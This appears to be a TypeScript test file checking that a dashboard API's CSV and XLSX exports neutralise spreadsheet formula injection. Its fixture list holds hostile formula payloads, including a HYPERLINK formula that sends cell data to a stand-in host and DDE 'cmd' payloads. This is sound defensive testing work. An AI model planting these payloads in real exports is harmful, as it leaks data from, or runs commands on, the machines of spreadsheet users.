/**
 * CSV and XLSX exports of lists cannot carry a formula into a spreadsheet (OWASP "CSV injection"):
 * text starting with = + - @, a tab or a line break is prefixed with a single quote in CSV cells, while
 * numbers (and text that is only a number) are left as they are; XLSX cells hold such text as text.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from './helpers/csv.ts';
import { createTestApp, dialects, type TestApp } from './helpers/harness.ts';
import { createOrg, createPlayer, type OrgContext } from './helpers/factories.ts';

const P = '/dashboard/v1';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const FORMULAS = [
  '=HYPERLINK("https://evil.test/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
];

describe.each(dialects)('formulas in CSV and XLSX exports on %s', (dialect) => {
  let t: TestApp;
  let org: OrgContext;
  let playerId: number;

  beforeAll(async () => {
    t = await createTestApp(dialect);
    org = await createOrg(t);
    const player = await createPlayer(org.api, { name: '=1+1' });
    playerId = player.id;
    const chapterId = player.chapters_attributes[0].id;
    for (const [i, html] of [...FORMULAS, '<a href="x">plain</a>', '-5', '1e3'].entries()) {
      const res = await org.api.post(`${P}/ctas`, { chapter_id: chapterId, second: i, duration: 5, auto_close: true, width: 300, html });
      expect(res.status, res.raw).toBe(201);
    }
  });
  afterAll(() => t.close());

  it('prefixes a single quote to every CSV cell a spreadsheet would read as a formula', async () => {
    const res = await org.api.get(`${P}/players/${playerId}/ctas`, { accept: 'text/csv' });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const [header, ...rows] = parseCsv(res.raw);
    const html = rows.map((r) => r[header.indexOf('html')]);
    expect(html).toEqual([...FORMULAS.map((f) => `'${f}`), '<a href="x">plain</a>', '-5', '1e3']);
    // Numbers are written as numbers.
    expect(rows.map((r) => r[header.indexOf('second')])).toEqual(html.map((_, i) => String(i)));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r\uFF1D]|^-(?!\d+$)/);

    const players = parseCsv((await org.api.get(`${P}/players`, { accept: 'text/csv' })).raw);
    expect(players[1][players[0].indexOf('name')]).toBe("'=1+1");
  });

  it('writes the same text as text cells (never formulas) in XLSX', async () => {
    const res = await t.app.inject({ method: 'GET', url: `${P}/players/${playerId}/ctas`, headers: { authorization: `Bearer ${org.token}`, accept: XLSX } });
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = header.indexOf('html') + 1;
    const cells = FORMULAS.map((_, i) => sheet.getRow(i + 2).getCell(column));
    expect(cells.map((c) => c.type)).toEqual(FORMULAS.map(() => ExcelJS.ValueType.String));
    // (XML reads a raw carriage return back as a line feed.)
    const lf = (text: unknown) => String(text).replace(/\r/g, '\n');
    expect(cells.map((c) => lf(c.value))).toEqual(FORMULAS.map(lf));
    // No cell of the sheet is a formula.
    sheet.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
